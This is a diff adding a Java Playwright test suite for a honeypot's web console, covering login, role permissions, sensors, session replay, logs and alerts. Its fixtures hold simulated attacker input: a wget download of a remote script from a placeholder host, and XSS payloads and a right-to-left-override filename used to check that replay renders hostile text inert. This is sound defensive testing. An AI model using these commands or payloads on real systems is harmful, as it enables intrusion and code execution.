@@ -1,0 +1,295 @@
+package io.rustbucket.console;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.options.AriaRole;
+import io.rustbucket.core.auth.Role;
+import java.time.Instant;
+import java.time.temporal.ChronoUnit;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Set;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Every console page in a real Chromium, signed in as each role: the page loads, its main action works end to
+ * end against the real systems, nothing is logged to the browser console, and a screenshot is saved under
+ * {@code target/screenshots/}.
+ */
+class ConsolePagesTest {
+    static ConsoleFixture f;
+    static Browser browser;
+
+    @BeforeAll
+    static void start() throws Exception {
+        browser = Browser.start();
+        f = new ConsoleFixture();
+        Instant t = Instant.now().minus(2, ChronoUnit.HOURS).truncatedTo(ChronoUnit.SECONDS);
+        List<String> events = new ArrayList<>();
+        events.addAll(ConsoleFixture.session(
+                "trap-1",
+                "S-benign",
+                "203.0.113.5",
+                t,
+                List.<String[]>of(
+                        new String[] {"uname -a", "Linux web-01 5.15.0-91-generic x86_64 GNU/Linux", "emulator"},
+                        new String[] {"cat /proc/cpuinfo | grep name", "model name : Intel(R) Xeon(R)", "cache"},
+                        new String[] {
+                            "wget http://203.0.113.77/x.sh", "Saving to: 'x.sh'", "emulator", "http://203.0.113.77/x.sh"
+                        },
+                        new String[] {"tell me a story about this box", "It is a quiet web server.", "llm"})));
+        events.addAll(ConsoleFixture.session(
+                "trap-1", "S-hostile", "198.51.100.66", t.plusSeconds(600), List.<String[]>of(new String[] {
+                    ConsoleFixture.HOSTILE, ConsoleFixture.HOSTILE, "fallback"
+                })));
+        f.pushAndParse("trap-1", events);
+    }
+
+    @AfterAll
+    static void stop() {
+        if (browser != null) {
+            browser.close();
+        }
+        if (f != null) {
+            f.close();
+        }
+    }
+
+    @AfterEach
+    void clean() {
+        try {
+            browser.assertClean();
+        } finally {
+            browser.errors().clear();
+        }
+    }
+
+    Page signedIn(Role role) {
+        Page page = browser.newPage();
+        Browser.signIn(page, f.base, ConsoleFixture.user(role), ConsoleFixture.PASSWORD);
+        assertThat(page).not().hasURL(java.util.regex.Pattern.compile(".*/login.*"));
+        return page;
+    }
+
+    @Test
+    void signInShowsFirstRunNoticeForcesPasswordChangeAndSignsOut() throws Exception {
+        String initial = "initial-pass-123";
+        f.core.accounts().create("fresh", null, null, initial, Set.of(Role.VIEWER), true);
+        Page page = browser.newPage();
+        page.navigate(f.base + "/sessions?protocol=ssh");
+        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login\\?next=.*"));
+        page.locator("input[name=account]").fill("fresh");
+        page.locator("input[name=password]").fill("wrong-password");
+        page.locator("button[type=submit]").click();
+        assertThat(page.getByRole(AriaRole.ALERT)).containsText("invalid username or password");
+        Browser.screenshot(page, "login-error");
+
+        page.locator("input[name=password]").fill(initial);
+        page.locator("button[type=submit]").click();
+        assertThat(page).hasURL(f.base + "/account/password");
+        page.navigate(f.base + "/sensors"); // every page sends a forced change back here
+        assertThat(page).hasURL(f.base + "/account/password");
+        Browser.screenshot(page, "password-change");
+        page.locator("input[name=current_password]").fill(initial);
+        page.locator("input[name=new_password]").fill("a-new-password-456");
+        page.locator("button[type=submit]").click();
+        assertThat(page).hasURL(f.base + "/");
+        assertThat(page.locator("h1")).hasText("Overview");
+
+        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign out"))
+                .click();
+        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login$"));
+        page.navigate(f.base + "/");
+        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login.*"));
+    }
+
+    @Test
+    void overviewChartsTopListsAndLiveFeedForEachRole() {
+        for (Role role : Role.values()) {
+            Page page = signedIn(role);
+            page.navigate(f.base + "/?range=24h");
+            assertThat(page.locator("#attacks-chart canvas")).hasCount(1);
+            assertThat(page.locator("#stat-connections")).hasText("2");
+            assertThat(page.locator("main")).containsText("203.0.113.5");
+            assertThat(page.locator("main")).containsText("root:admin123");
+            assertThat(page.locator("main")).containsText("http://203.0.113.77/x.sh");
+            assertThat(page.locator("#feed-state")).hasText("live");
+            f.ingest(ConsoleFixture.event(
+                            "trap-1",
+                            "S-live-" + role.id(),
+                            "192.0.2.44",
+                            Instant.now(),
+                            "connection.open",
+                            java.util.Map.of())
+                    .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
+            assertThat(page.locator("#live-feed li").first()).containsText("192.0.2.44");
+            Browser.screenshot(page, "overview-" + role.id());
+            page.context().close();
+        }
+    }
+
+    @Test
+    void adminCreatesAndRevokesARegistrationKeyAndChangesASensorStatus() {
+        Page page = signedIn(Role.ADMIN);
+        page.navigate(f.base + "/sensors");
+        assertThat(page.locator("#fleet")).containsText("trap-1");
+        page.locator("#create-key input[name=name]").fill("fra-2");
+        page.locator("#create-key button[type=submit]").click();
+        assertThat(page.locator("#new-key")).hasText(java.util.regex.Pattern.compile("^rbk_\\S{20,}$"));
+        assertThat(page.locator("#keys")).containsText("fra-2");
+        Browser.screenshot(page, "sensors-admin");
+        page.locator("#keys tr", new Page.LocatorOptions().setHasText("fra-2"))
+                .getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Revoke"))
+                .click();
+        assertThat(page.locator("#keys tr", new Page.LocatorOptions().setHasText("fra-2")))
+                .containsText("revoked");
+
+        page.locator("#fleet a", new Page.LocatorOptions().setHasText("trap-1")).click();
+        assertThat(page.locator("#sensor-status")).hasText("Active");
+        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Make Inactive"))
+                .click();
+        assertThat(page.locator("#sensor-status")).hasText("Inactive");
+        assertThat(page.locator("#status-history")).containsText("admin-user");
+        Browser.screenshot(page, "sensor-detail");
+        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Make Active"))
+                .click();
+        assertThat(page.locator("#sensor-status")).hasText("Active");
+    }
+
+    @Test
+    void viewersSeeTheFleetButNoKeysOrStatusButtons() {
+        Page page = signedIn(Role.VIEWER);
+        page.navigate(f.base + "/sensors");
+        assertThat(page.locator("#fleet")).containsText("trap-1");
+        assertThat(page.locator("#create-key")).hasCount(0);
+        Browser.screenshot(page, "sensors-viewer");
+        var keys = page.request().get(f.base + "/sensors/keys");
+        assertThat(keys.status()).isEqualTo(403);
+        page.navigate(f.base + "/sensors/" + f.sensorId);
+        assertThat(page.locator("button", new Page.LocatorOptions().setHasText("Make")))
+                .hasCount(0);
+        // The API refuses too, whatever the page shows.
+        var change = page.request()
+                .put(
+                        f.base + "/api/sensors/" + f.sensorId + "/status",
+                        com.microsoft.playwright.options.RequestOptions.create()
+                                .setHeader("Content-Type", "application/json")
+                                .setData("{\"status\":\"Inactive\"}"));
+        assertThat(change.status()).isIn(403);
+    }
+
+    @Test
+    void sessionsSearchAndReplayShowHostileTextInertAndVisible() {
+        for (Role role : List.of(Role.VIEWER, Role.ANALYST, Role.ADMIN)) {
+            Page page = signedIn(role);
+            page.navigate(f.base + "/sessions");
+            assertThat(page.locator("#session-list tbody tr")).hasCount(2);
+            page.locator("input[name=source_ip]").fill("203.0.113.5");
+            page.locator("form.filters button[type=submit]").click();
+            assertThat(page.locator("#session-list tbody tr")).hasCount(1);
+            assertThat(page).hasURL(java.util.regex.Pattern.compile(".*source_ip=203\\.0\\.113\\.5.*"));
+            assertThat(page.locator("#session-list")).containsText("4"); // commands
+            page.locator("#session-list a").first().click();
+            assertThat(page.locator("#transcript")).containsText("uname -a");
+            assertThat(page.locator("#transcript .src-llm")).hasCount(1);
+            assertThat(page.locator("#transcript .src-cache")).hasCount(1);
+            assertThat(page.locator("#credentials")).containsText("root / admin123");
+            assertThat(page.locator("#urls")).containsText("http://203.0.113.77/x.sh");
+            Browser.screenshot(page, "replay-" + role.id());
+            page.context().close();
+        }
+        Page page = signedIn(Role.VIEWER);
+        page.navigate(f.base + "/sessions?text="
+                + java.net.URLEncoder.encode("<script>", java.nio.charset.StandardCharsets.UTF_8));
+        assertThat(page.locator("#session-list tbody tr")).hasCount(1);
+        page.locator("#session-list a").first().click();
+        assertThat(page.locator("#transcript pre.input"))
+                .containsText("<script>alert(1)</script>\"><img src=x onerror=alert(2)>");
+        assertThat(page.locator("#transcript pre.input")).containsText("^[[31mred<U+202E>gnp.exe");
+        assertThat(page.locator("#transcript .src-fallback")).hasCount(1);
+        assertThat(page.locator("main img")).hasCount(0);
+        assertThat(page.locator("main script")).hasCount(0);
+        Browser.screenshot(page, "replay-hostile");
+    }
+
+    @Test
+    void logsSearchPagesAndTailsLive() {
+        for (int i = 0; i < 60; i++) {
+            f.ingest(ConsoleFixture.event(
+                            "trap-1",
+                            "S-log",
+                            "192.0.2." + (i % 200),
+                            Instant.now().minusSeconds(i),
+                            "command",
+                            java.util.Map.of("honeypot.input", "wget http://example.test/" + i))
+                    .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
+        }
+        Page page = signedIn(Role.VIEWER);
+        page.navigate(f.base + "/logs");
+        page.locator("input[name=q]").fill("honeypot.input:wget*");
+        page.locator("#log-filters button[type=submit]").click();
+        assertThat(page.locator("#total")).containsText("60 events match");
+        assertThat(page.locator("#log-results tbody tr")).hasCount(50);
+        page.locator("#next-page").click();
+        assertThat(page.locator("#log-results tbody tr")).hasCount(10);
+        Browser.screenshot(page, "logs-search");
+
+        page.navigate(f.base + "/logs");
+        page.locator("input[name=source_ip]").fill("192.0.2.250");
+        page.locator("#tail-toggle").click();
+        assertThat(page.locator("#tail-state")).hasText("live");
+        f.ingest(ConsoleFixture.event("trap-1", "S-tail", "192.0.2.251", Instant.now(), "command", java.util.Map.of())
+                .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
+        f.ingest(ConsoleFixture.event("trap-1", "S-tail", "192.0.2.250", Instant.now(), "command", java.util.Map.of())
+                .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
+        assertThat(page.locator("#tail-feed li")).hasCount(1);
+        assertThat(page.locator("#tail-feed li").first()).containsText("192.0.2.250");
+        Browser.screenshot(page, "logs-tail");
+    }
+
+    @Test
+    void adminRunsTheAnalystAndEveryoneReadsTheReport() {
+        Page viewer = signedIn(Role.VIEWER);
+        viewer.navigate(f.base + "/analyses");
+        assertThat(viewer.locator("#run-analysis")).hasCount(0);
+        viewer.context().close();
+
+        Page page = signedIn(Role.ADMIN);
+        page.navigate(f.base + "/analyses");
+        page.locator("#run-analysis").click();
+        assertThat(page.locator("article.analysis").first()).containsText("trap-1");
+        page.locator("article.analysis details summary").first().click();
+        assertThat(page.locator("article.analysis details pre").first()).containsText("203.0.113.5");
+        Browser.screenshot(page, "analyses");
+    }
+
+    @Test
+    void analystAcknowledgesAndResolvesAnAlertViewerOnlyReads() {
+        f.raiseAlert("Disk almost full on /data");
+        Page viewer = signedIn(Role.VIEWER);
+        viewer.navigate(f.base + "/alerts");
+        assertThat(viewer.locator("#alert-list")).containsText("Disk almost full on /data");
+        assertThat(viewer.locator("#alert-list button")).hasCount(0);
+        Browser.screenshot(viewer, "alerts-viewer");
+        viewer.context().close();
+
+        Page page = signedIn(Role.ANALYST);
+        page.navigate(f.base + "/alerts");
+        var row = page.locator("#alert-list tr", new Page.LocatorOptions().setHasText("Disk almost full"));
+        row.getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Acknowledge"))
+                .click();
+        assertThat(row).containsText("ack by analyst-user");
+        Browser.screenshot(page, "alerts-analyst");
+        row.getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Resolve"))
+                .click();
+        assertThat(page.locator("#alerts")).not().containsText("Disk almost full");
+        page.locator("select[name=status]").selectOption("resolved");
+        page.locator("form.filters button[type=submit]").click();
+        assertThat(page.locator("#alert-list")).containsText("resolved by analyst-user");
+    }
+}
